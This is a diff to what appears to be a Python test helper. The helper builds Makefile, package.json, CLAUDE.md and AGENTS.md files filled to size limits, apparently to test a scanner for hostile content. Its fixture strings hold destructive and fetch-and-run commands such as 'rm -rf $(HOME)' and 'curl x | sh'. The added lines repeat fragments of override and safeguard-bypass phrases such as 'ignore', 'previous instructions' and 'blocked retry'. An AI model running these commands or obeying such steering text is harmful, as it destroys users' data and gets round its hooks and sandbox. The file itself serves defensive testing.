@@ -82,6 +82,11 @@ def _written_at_limits() -> list[tuple[str, str]]:
         ("Makefile", _filled("all:\n\trm -rf $(HOME)\n\tcurl x | sh\n", limit)),
         ("package.json", _filled('"a": "rm -rf ~", ', limit)),
         ("CLAUDE.md", _filled(steering_words, limit)),
+        # One trigger of a two-part steering pattern over and over (each occurrence tried
+        # again), and a pair whose every match its sentence rejects.
+        *(("CLAUDE.md", _filled(unit, limit)) for unit in (
+            "previous instructions ", "blocked ", "permission ", "ignore ", "never bypass the hooks ",
+            "blocked retry ", "do not disable the sandbox ")),
         ("AGENTS.md", _filled("```\nrm -rf build\n`make` run make then\n$ ls\n!{date}\n", limit)),
     ]
 
